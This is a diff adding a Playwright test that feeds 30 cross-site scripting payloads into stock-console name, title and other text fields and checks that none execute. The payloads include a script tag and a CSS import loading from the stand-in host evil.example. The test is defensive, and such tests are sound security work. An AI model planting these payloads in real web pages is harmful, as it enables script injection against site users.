@@ -1,0 +1,96 @@
+"""Text of upstreams is shown as text: scripts in names, titles and reasons run nowhere."""
+
+from itertools import cycle
+from typing import Any
+
+import pytest
+from playwright.sync_api import Browser
+
+from tests.console.opened import CODE, answer_recorded, opened
+
+PAYLOADS = (
+    "<script>window.hit=1</script>",
+    "<ScRiPt>window.hit=1</sCrIpT>",
+    "<script src=//evil.example/x.js></script>",
+    "</script><script>window.hit=1</script>",
+    "</title><script>window.hit=1</script>",
+    "</textarea><script>window.hit=1</script>",
+    "<img src=x onerror=window.hit=1>",
+    "<img src=x:x onerror='window.hit=1'>",
+    '"><img src=x onerror=window.hit=1>',
+    "'><img src=x onerror=window.hit=1>",
+    "<svg onload=window.hit=1>",
+    "<svg><script>window.hit=1</script></svg>",
+    "<svg/onload=window.hit=1//",
+    "<body onload=window.hit=1>",
+    "<iframe src='javascript:parent.hit=1'></iframe>",
+    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
+    "<a href='javascript:window.hit=1'>x</a>",
+    '<b><a href="javascript:window.hit=1">x</a></b>',
+    "<details open ontoggle=window.hit=1>",
+    "<video><source onerror=window.hit=1></video>",
+    "<audio src=x onerror=window.hit=1>",
+    "<input autofocus onfocus=window.hit=1>",
+    "<marquee onstart=window.hit=1>",
+    "<object data='javascript:window.hit=1'></object>",
+    "<embed src='javascript:window.hit=1'>",
+    "<math><mtext><style><img src=x onerror=window.hit=1></style></mtext></math>",
+    "<style>@import '//evil.example/x.css';</style>",
+    "javascript:window.hit=1",
+    "{{constructor.constructor('window.hit=1')()}}",
+    "&lt;img src=x onerror=window.hit=1&gt;",
+)
+TEXTS = {
+    "name",
+    "title",
+    "plan_text",
+    "reason",
+    "industry",
+    "concepts",
+    "label",
+    "pattern",
+    "direction",
+    "mark",
+    "detail",
+}
+_MADE = """() => [...document.querySelectorAll(
+  "script:not([src]):not([type='application/json']), img, iframe, object, embed, video, audio, marquee,"
+    + "details, math"
+)].map((one) => one.outerHTML)"""
+
+
+@pytest.mark.parametrize("width", [1280, pytest.param(390, marks=pytest.mark.soak)])
+def test_scripts_in_the_texts_of_upstreams_run_nowhere(browser: Browser, site: str, width: int) -> None:
+    assert len(PAYLOADS) == 30
+    payloads = cycle(PAYLOADS)
+
+    def poisoned(answer: Any, key: str = "") -> Any:
+        if isinstance(answer, dict):
+            return {name: poisoned(value, name) for name, value in answer.items()}
+        if isinstance(answer, list):
+            return [poisoned(value, key) for value in answer]
+        return next(payloads) if key in TEXTS and isinstance(answer, str) else answer
+
+    with opened(browser, width=width) as one:
+        answer_recorded(one.page, poisoned)
+        found = {
+            "results": [{"code": CODE, "name": text, "industry": text, "market": "SH"} for text in PAYLOADS]
+        }
+        one.page.route("**/stocks/search*", lambda route: route.fulfill(json=found))
+        one.page.goto(f"{site}/console/stock/{CODE}")
+        one.ready()
+        one.page.keyboard.press("/")
+        one.page.keyboard.type("x")
+        one.page.locator("#search-found [data-code]").nth(29).wait_for()
+
+        shown = one.page.locator("body").inner_text()
+        assert [text for text in PAYLOADS if text not in shown] == []
+        # The labels of a chart that appear with the mouse.
+        box = one.page.locator("#candles-body").bounding_box()
+        assert box is not None
+        one.page.mouse.move(box["x"] + box["width"] / 2, box["y"] + 100)
+        one.page.wait_for_timeout(300)
+        assert one.page.evaluate("() => window.hit") is None
+        assert one.page.evaluate(_MADE) == []
+        assert one.errors == []
+        assert one.hosts() == {site.removeprefix("http://")}
